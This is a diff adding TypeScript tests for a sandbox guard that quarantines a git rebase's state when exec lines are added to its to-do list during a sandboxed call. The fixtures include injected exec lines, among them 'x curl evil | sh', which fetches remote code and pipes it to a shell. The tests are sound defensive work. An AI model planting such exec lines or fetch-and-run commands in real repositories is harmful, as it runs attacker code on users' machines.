@@ -266,3 +266,59 @@ describe("git config, read as git reads it", () => {
     expect(config(text)).toContain(why);
   });
 });
+
+describe("a rebase's to-do list", () => {
+  const env = {
+    ...process.env,
+    GIT_AUTHOR_NAME: "a",
+    GIT_AUTHOR_EMAIL: "a@b.c",
+    GIT_COMMITTER_NAME: "a",
+    GIT_COMMITTER_EMAIL: "a@b.c",
+    GIT_EDITOR: "true",
+  };
+  const run = (...args: string[]) => execFileSync("git", args, { cwd: ws, stdio: "pipe", env });
+  const commit = (text: string) => {
+    writeFileSync(join(ws, "a.txt"), text);
+    run("add", "a.txt");
+    run("commit", "-q", "-m", text);
+  };
+
+  it("that gains exec lines during a call is moved out with the rebase's state: git rebase --continue then runs nothing", () => {
+    run("init", "-q", "-b", "main", ".");
+    commit("1\n");
+    run("checkout", "-q", "-b", "side");
+    commit("2\n");
+    run("checkout", "-q", "main");
+    commit("3\n");
+    run("checkout", "-q", "side");
+    const g = guard();
+    g.protectedPaths();
+    // The sandboxed call: a rebase with --exec that stops on a conflict, its exec line still to run.
+    expect(() => run("rebase", "-x", "touch pwned", "main")).toThrow();
+    expect(readFileSync(join(ws, ".git", "rebase-merge", "git-rebase-todo"), "utf8")).toContain("exec touch pwned");
+    const removed = g.sweep();
+    expect(rel(removed)).toEqual([".git/rebase-merge"]);
+    expect(removed[0]!.reason).toContain("exec lines");
+    expect(existsSync(join(quarantine, ".git", "rebase-merge", "git-rebase-todo"))).toBe(true);
+    // The user's next continue finds no rebase: the exec line never runs.
+    writeFileSync(join(ws, "a.txt"), "resolved\n");
+    run("add", "a.txt");
+    expect(() => run("rebase", "--continue")).toThrow(/no rebase in progress/i);
+    expect(existsSync(join(ws, "pwned"))).toBe(false);
+  });
+
+  it("keeps a rebase that was under way before, while continuing it only moves its lines along", () => {
+    run("init", "-q", ".");
+    write(".git/rebase-merge/git-rebase-todo", "pick 1111111 one\nexec make test\npick 2222222 two\nexec make test\n");
+    write(".git/rebase-merge/head-name", "refs/heads/side\n");
+    const g = guard();
+    g.protectedPaths();
+    // Continuing: the first pick and exec move to `done`.
+    write(".git/rebase-merge/git-rebase-todo", "pick 2222222 two\nexec make test\n");
+    expect(g.sweep()).toEqual([]);
+    // A new exec line: moved out.
+    write(".git/rebase-merge/git-rebase-todo", "pick 2222222 two\nexec make test\nx curl evil | sh\n");
+    expect(rel(g.sweep())).toEqual([".git/rebase-merge"]);
+    expect(existsSync(join(ws, ".git", "rebase-merge"))).toBe(false);
+  });
+});
